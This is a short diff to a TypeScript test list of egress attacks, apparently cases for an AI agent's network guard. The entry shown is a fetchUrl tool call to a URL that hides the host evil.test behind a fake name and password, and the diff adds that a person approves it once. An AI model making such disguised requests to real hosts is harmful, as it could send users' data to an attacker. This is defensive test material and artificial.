@@ -71,6 +71,9 @@ export const EGRESS_ATTACKS: readonly Attack[] = [
     what: 'hides where it goes behind a name and a password',
     rules: OPEN,
     steps: [calls(call('fetchUrl', { url: 'https://example.org:x@evil.test/' }))],
+    // A password is private; and who says yes to it does not send it either.
+    person: ['approve'],
+    asked: 1,
     told: [/name or a password/],
   },
   {
